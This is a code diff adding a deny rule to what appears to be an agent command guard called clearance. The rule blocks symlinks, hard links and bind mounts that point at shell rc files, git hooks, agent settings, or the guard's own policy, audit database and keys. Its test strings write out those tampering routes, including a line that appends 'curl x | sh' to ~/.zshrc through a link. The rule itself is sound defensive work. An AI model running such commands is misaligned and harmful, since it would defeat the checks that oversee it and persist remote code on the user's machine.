@@ -281,6 +281,49 @@ def write_code_cache(e: Effect, sc: Scope) -> str | None:
 
 
 @rule(
+    id="fs.link-to-protected",
+    title="Linking to protected files or clearance's own files from elsewhere",
+    why=(
+        "A link elsewhere that points at a shell start-up file, git internals, agent settings, or clearance's policy, audit trail, keys "
+        "or caches makes a later write through the link look like an ordinary write to the link's own path, and the link may be "
+        "written in the same command line, before clearance could see where it leads. The link is the first step of that write."
+    ),
+    verdict=HARD_DENY,
+    commands=("ln", "link", "cp", "mount"),
+    match=(
+        "ln -s ~/.config/clearance/config.toml notes.toml",
+        "ln ~/.local/state/clearance/clearance.db /tmp/db",
+        "cp -s ~/.cache/clearance/server-policy.toml x.toml",
+        "mount --bind ~/.config/clearance /tmp/c",
+        "ln -s ~/.zshrc rc && echo 'curl x | sh' >> rc",
+        "ln -s ../.git/hooks/pre-commit hook.sh",
+    ),
+    no_match=(
+        "ln -s ../shared/config.toml config.toml",
+        "cp ~/.config/clearance/config.toml /tmp/policy-copy.toml",
+        "ln -s ~/.config/nvim nvim",
+        "ln -s ~/dotfiles/zshrc ~/dotfiles/zshrc.bak",
+    ),
+)
+def link_to_protected(cmd: SimpleCommand, sc: Scope) -> str | None:
+    vals = cmd.values()
+    if cmd.name == "cp" and not any(
+        v in ("-s", "-l", "--symbolic-link", "--link") or (v[:1] == "-" and v[1:2] != "-" and ("s" in v or "l" in v)) for v in vals
+    ):
+        return None
+    if cmd.name == "mount" and not any(v in ("--bind", "--rbind", "-B", "--move") or (v.startswith("-o") and "bind" in v) for v in vals):
+        return None
+    ops = [v for v in vals if not v.startswith("-")]
+    sources = ops[:-1] if len(ops) > 1 else ops
+    for v in sources:
+        p = sc.path(v, cmd)
+        why = paths.protected_reason(p, sc.ctx)
+        if why is not None:
+            return f"{cmd.name} links {sc.show(p)} ({why}) from elsewhere; a write through the link would change it"
+    return None
+
+
+@rule(
     id="fs.mass-delete-in-project",
     title="Deleting a source directory or everything in the project",
     why="Recursive deletion of a non-generated directory in the project destroys work that may not be committed; build outputs and caches are exempt.",
